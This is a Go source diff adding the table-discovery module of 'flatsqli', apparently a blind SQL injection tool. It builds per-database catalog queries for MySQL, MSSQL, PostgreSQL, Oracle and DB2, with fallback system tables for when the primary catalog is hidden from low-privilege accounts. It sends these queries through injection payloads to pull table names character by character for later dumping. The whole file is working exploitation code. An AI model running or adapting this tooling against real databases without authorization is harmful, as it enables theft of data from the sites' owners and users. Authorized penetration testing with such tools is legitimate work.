@@ -0,0 +1,177 @@
+package finder
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/morkin1792/flatsqli/internal/detector"
+	"github.com/morkin1792/flatsqli/internal/storage"
+	"github.com/morkin1792/flatsqli/internal/ui"
+)
+
+// catalog is a system view listing the tables of the current schema
+type catalog struct {
+	name   string // view or table, e.g. information_schema.columns
+	column string // column holding the table name
+	where  string // restricts it to the current schema ("" = no filter)
+}
+
+// SetSchema scopes catalog and row queries to another schema (a database on
+// MySQL and MSSQL, an owner on Oracle) instead of the current one. Its tables
+// are cached under "schema@host", apart from the current schema's.
+func (f *Finder) SetSchema(schema string) {
+	f.schema = schema
+	if schema != "" {
+		f.cache = storage.ForHost(schema+"@"+f.host, f.cache.Enabled())
+	}
+}
+
+// columnCatalog returns the catalog listing the columns of the tables in scope
+func (f *Finder) columnCatalog() catalog {
+	primary, _ := f.tableCatalogs()
+	return primary
+}
+
+// tableCatalogs returns the catalog the column queries rely on, then the ones
+// tried when it is hidden (least-privilege accounts often can't read it). New
+// fallbacks are added here.
+func (f *Finder) tableCatalogs() (catalog, []catalog) {
+	// The current schema, or the one set by SetSchema as a literal
+	current := func(fallback string) string {
+		if f.schema == "" {
+			return fallback
+		}
+		return "'" + strings.ReplaceAll(f.schema, "'", "''") + "'"
+	}
+
+	switch f.dbType {
+	case detector.MySQL:
+		return catalog{"information_schema.columns", "table_name", "table_schema=" + current("database()")}, []catalog{
+			{"mysql.innodb_table_stats", "table_name", "database_name=" + current("database()")},
+		}
+	case detector.MSSQL:
+		prefix := ""
+		if f.schema != "" {
+			prefix = f.quote(f.schema) + "."
+		}
+		return catalog{prefix + "INFORMATION_SCHEMA.COLUMNS", "table_name", "table_schema NOT IN ('sys','INFORMATION_SCHEMA')"}, []catalog{
+			{prefix + "sys.tables", "name", "is_ms_shipped=0"},
+			{prefix + "dbo.sysobjects", "name", "xtype='U'"},
+		}
+	case detector.PostgreSQL:
+		return catalog{"information_schema.columns", "table_name", "table_schema=" + current("'public'")}, []catalog{
+			{"pg_catalog.pg_tables", "tablename", "schemaname=" + current("'public'")},
+		}
+	case detector.Oracle:
+		if f.schema != "" {
+			return catalog{"all_tab_columns", "table_name", "owner=" + current("")}, []catalog{
+				{"all_tables", "table_name", "owner=" + current("")},
+			}
+		}
+		return catalog{"user_tab_columns", "table_name", ""}, []catalog{
+			{"user_tables", "table_name", ""},
+			{"all_tables", "table_name", "owner=USER"},
+		}
+	case detector.DB2:
+		return catalog{"syscat.columns", "tabname", "tabschema=" + current("CURRENT SCHEMA")}, []catalog{
+			{"sysibm.systables", "name", "creator=" + current("CURRENT SCHEMA") + " AND type='T'"},
+		}
+	default:
+		return catalog{}, nil
+	}
+}
+
+// filter returns the WHERE clause of the catalog, with extra ANDed to it
+func (c catalog) filter(extra string) string {
+	var conds []string
+	for _, cond := range []string{c.where, extra} {
+		if cond != "" {
+			conds = append(conds, cond)
+		}
+	}
+	if len(conds) == 0 {
+		return ""
+	}
+	return " WHERE " + strings.Join(conds, " AND ")
+}
+
+// readable reports whether the catalog lists at least one table
+func (f *Finder) readable(c catalog) (bool, error) {
+	query := fmt.Sprintf("SELECT COUNT(*) FROM %s%s", c.name, c.filter(""))
+	return f.calibration.Probe(f.requester, f.payloadGen.GetComparisonPayload(query, 0))
+}
+
+// catalogTableAt returns the query for the offset-th table of the catalog whose name contains term
+func (f *Finder) catalogTableAt(c catalog, term string, offset int) string {
+	where := c.filter(fmt.Sprintf("LOWER(%s) LIKE '%%%s%%'", c.column, strings.ToLower(term)))
+	switch f.dbType {
+	case detector.MySQL, detector.PostgreSQL:
+		return fmt.Sprintf("SELECT %s FROM %s%s ORDER BY %s LIMIT 1 OFFSET %d", c.column, c.name, where, c.column, offset)
+	case detector.DB2:
+		if !f.legacyPaging() {
+			return fmt.Sprintf("SELECT %s FROM %s%s ORDER BY %s OFFSET %d ROWS FETCH FIRST 1 ROW ONLY", c.column, c.name, where, c.column, offset)
+		}
+	}
+	return fmt.Sprintf("SELECT %s FROM (SELECT %s, ROW_NUMBER() OVER (ORDER BY %s) rn FROM %s%s) x WHERE rn=%d", c.column, c.column, c.column, c.name, where, offset+1)
+}
+
+// findTablesInFallbackCatalog runs when no column matched: it tells "no matches"
+// from "no catalog access", and in the latter case looks for tables whose name
+// contains a term in the first readable fallback catalog. Their columns are
+// unknown, so matches have no column name.
+func (f *Finder) findTablesInFallbackCatalog(terms []string, tableLimit int, onFound func(string)) ([]ColumnMatch, error) {
+	primary, fallbacks := f.tableCatalogs()
+	if primary.name == "" {
+		return nil, nil
+	}
+
+	ok, err := f.readable(primary)
+	if err != nil || ok {
+		if ok {
+			ui.Verbose(f.verbose, "%s is readable, no column matches the terms", primary.name)
+		}
+		return nil, err
+	}
+	ui.Warning("%s lists no tables: no catalog access, trying fallback catalogs", primary.name)
+
+	for _, c := range fallbacks {
+		ok, err := f.readable(c)
+		if err != nil {
+			return nil, err
+		}
+		if !ok {
+			ui.Verbose(f.verbose, "%s is not readable either", c.name)
+			continue
+		}
+
+		ui.Info("Searching table names in %s (column names are unavailable, dump with -dt <table> -columns ...)", c.name)
+		var matches []ColumnMatch
+		seen := make(map[string]bool)
+		for _, term := range terms {
+			for offset := 0; len(seen) < tableLimit && withinLimit(offset, f.maxTableScan); offset++ {
+				tableName, err := f.extractString(f.catalogTableAt(c, term, offset))
+				if err != nil {
+					return matches, err
+				}
+				if tableName == "" {
+					break
+				}
+				if seen[strings.ToLower(tableName)] {
+					continue
+				}
+				seen[strings.ToLower(tableName)] = true
+				f.exactName(tableName)
+				if onFound != nil {
+					onFound(tableName)
+				}
+				matches = append(matches, ColumnMatch{TableName: tableName})
+				ui.Progress("Found table: %s", tableName)
+			}
+		}
+		ui.ProgressDone()
+		return matches, nil
+	}
+
+	ui.Warning("No readable catalog found, tables can only be dumped by name (-dt <table> -columns ...)")
+	return nil, nil
+}